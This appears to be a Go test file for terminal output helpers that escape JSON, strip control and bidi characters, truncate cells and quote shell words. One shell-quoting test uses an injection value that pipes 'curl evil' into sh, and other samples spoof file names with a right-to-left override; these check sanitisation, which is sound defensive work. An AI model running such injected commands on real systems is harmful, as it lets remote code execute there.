package terminal

import (
	"encoding/json"
	"reflect"
	"slices"
	"testing"
	"unicode"
)

func TestEscapeJSON(t *testing.T) {
	for in, want := range map[string]string{
		`{"a": [1, "é 日本 😀\n"]}`:            `{"a": [1, "é 日本 😀\n"]}`,
		"{\n\t\"a\": 1\r\n}":                "{\n\t\"a\": 1 \n}",
		"\"\u009b31mred\u0085\"":            `"\u009b31mred\u0085"`,
		"\"abc\u202egpj.exe\u2066x\u2069\"": `"abc\u202egpj.exe\u2066x\u2069"`,
		"\"\x7f\u200b\u2028\ufeff\u00ad\"":  `"\u007f\u200b\u2028\ufeff\u00ad"`,
		"\"\U000e0041\"":                    `"\udb40\udc41"`,
		"\"\x9b31m \xff\"":                  `"\ufffd31m \ufffd"`,
		"\"👩\u200d🔬 می\u200cخواهم\u00a0x\"": "\"👩\u200d🔬 می\u200cخواهم\u00a0x\"",
	} {
		have := string(EscapeJSON([]byte(in)))
		if have != want {
			t.Errorf("%q: have %q, want %q", in, have, want)
		}
		var a, b any
		if err := json.Unmarshal([]byte(in), &a); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal([]byte(have), &b); err != nil || !reflect.DeepEqual(a, b) {
			t.Errorf("%q means %q, %v", have, b, err)
		}
	}
}

func TestShort(t *testing.T) {
	for in, want := range map[string]string{
		"": "", " a ": "a", "abcde": "abcde", "abcdef": "abcd…", "abcd\nef": "abcd", "abcdeé": "abcd…", "ééééé": "ééééé",
		"éééééé": "éééé…", "a\x1bcde": "a?cde", "a\x1bcdef": "a?cd…", "\xff\xfe": "?", "abcde\x1b": "abcd…",
	} {
		if have := Short(in, 5); have != want {
			t.Errorf("%q: %q, want %q", in, have, want)
		}
	}
}

func TestShortAndClean(t *testing.T) {
	for in, want := range map[string]string{
		"one\ntwo": "one", "a\tb": "a b", "\x1b[31mred": "?[31mred", "\xff": "?", "0123456789abc": "012345678…", "ĝus": "ĝus",
		"a\u202eb": "a?b", "می\u200cخواهم": "می\u200cخواهم", "👩\u200d🔬": "👩\u200d🔬", "10\u00a0000\u202f€": "10\u00a0000\u202f€", "\r\n a\r\nb": "a", "a\rb": "a?b",
	} {
		if got := Short(in, 10); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// FuzzEscapeJSON: nothing that is printed controls a terminal, and JSON stays JSON.
func FuzzEscapeJSON(f *testing.F) {
	f.Add([]byte("{\"a\":\"\u009b\u202e\x9b\U000e0041\"}"))
	f.Fuzz(func(t *testing.T, in []byte) {
		out := EscapeJSON(in)
		for _, r := range string(out) {
			if unicode.IsControl(r) && r != '\n' && r != '\t' || unicode.Is(unicode.Cf, r) && r != zeroWidthJoiner && r != zeroWidthNonJoiner {
				t.Fatalf("%q in %q", r, out)
			}
		}
		if json.Valid(in) && !json.Valid(out) {
			t.Fatalf("%q is JSON, %q is not", in, out)
		}
	})
}

func TestFitColumns(t *testing.T) {
	for _, tt := range []struct {
		widths []int
		total  int
		want   []int
	}{
		{[]int{10, 5, 80}, 100, []int{10, 5, 80}},
		{[]int{10, 5, 80}, 60, []int{10, 5, 41}},
		{[]int{20, 20, 80}, 40, []int{20, 8, 8}},
		{[]int{20, 10, 30}, 46, []int{20, 10, 12}},
		{[]int{20, 10, 30}, 42, []int{20, 9, 9}},
		{[]int{6}, 3, []int{6}},
	} {
		if have := fitColumns(tt.widths, tt.total); !slices.Equal(have, tt.want) {
			t.Errorf("%v in %d: %v, want %v", tt.widths, tt.total, have, tt.want)
		}
	}
}

func TestShellWord(t *testing.T) {
	for in, want := range map[string]string{
		"": "''", "plain": "plain", "a b": "'a b'", "name='x'": `'name='\''x'\'''`, "x;curl evil|sh;echo ''": `'x;curl evil|sh;echo '\'''\'''`,
		"'quoted'": `''\''quoted'\'''`, "~/extensions": "~/extensions", "~/my extensions": "~/'my extensions'", "~": "'~'", "a\x1bb": "'a?b'",
	} {
		if got := ShellWord(in); got != want {
			t.Errorf("%q: %s, want %s", in, got, want)
		}
	}
}

func TestCut(t *testing.T) {
	for _, tt := range []struct {
		cell  string
		width int
		want  string
	}{
		{"", 0, ""}, {"a", 0, "…"}, {"ab", 1, "…"}, {"ab", 2, "ab"}, {"abc", 2, "a…"}, {"äöü", 3, "äöü"}, {"äöüß", 3, "äö…"}, {"日本語", 2, "日…"},
	} {
		if got := Cut(tt.cell, tt.width); got != tt.want {
			t.Errorf("Cut(%q, %d) = %q, want %q", tt.cell, tt.width, got, tt.want)
		}
	}
}
